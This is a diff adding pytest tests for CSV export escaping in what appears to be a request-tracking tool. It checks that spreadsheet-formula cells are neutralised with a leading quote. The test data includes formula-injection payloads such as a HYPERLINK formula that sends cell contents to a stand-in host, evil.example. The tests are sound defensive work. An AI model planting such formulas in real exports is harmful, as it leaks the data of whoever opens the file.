@@ -216,3 +216,32 @@ def test_hash_is_sha256_of_salt_network_and_user_id():
 
     assert exports.supporter_hash("s", "sandbox", "u-x") == hashlib.sha256(b"ssandboxu-x").hexdigest()[:16]
     assert exports.supporter_hash("s", "sandbox", "u-x") != exports.supporter_hash("t", "sandbox", "u-x")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start):
+    fields = [{"name": "title"}, {"name": "networks"}, {"name": "supporter_count"}]
+    text = exports.csv_text(
+        [{"title": f"{start}HYPERLINK(\"https://evil.example\")", "networks": [f"{start}x", "y"],
+          "supporter_count": 2},
+         {"title": "Bike counts = useful", "networks": ["sandbox"], "supporter_count": 0}],
+        fields,
+    )
+    rows = list(csv.DictReader(text.splitlines(keepends=True)))
+    assert rows[0]["title"] == f"'{start}HYPERLINK(\"https://evil.example\")"
+    assert rows[0]["networks"] == f"'{start}x;y"
+    assert rows[0]["supporter_count"] == "2"
+    assert rows[1] == {"title": "Bike counts = useful", "networks": "sandbox", "supporter_count": "0"}
+
+
+def test_a_formula_in_an_answer_is_inert_in_csv_and_kept_in_json(loop, tmp_path):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    loop(["request", "set-status", "2", "declined", "--answer", formula, "--actor", "alice"])
+    loop(f"export --format csv --out {tmp_path / 'csv'}")
+    loop(f"export --format json --out {tmp_path / 'export.json'}")
+    requests = {row["id"]: row for row in read_csv(tmp_path / "csv" / "requests.csv")}
+    assert requests["2"]["answer"] == "'" + formula
+    events = read_csv(tmp_path / "csv" / "status_events.csv")
+    assert [e["answer"] for e in events if e["status"] == "declined"] == ["'" + formula]
+    data = json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))
+    assert [r["answer"] for r in data["requests"] if r["id"] == 2] == [formula]  # JSON is not a spreadsheet
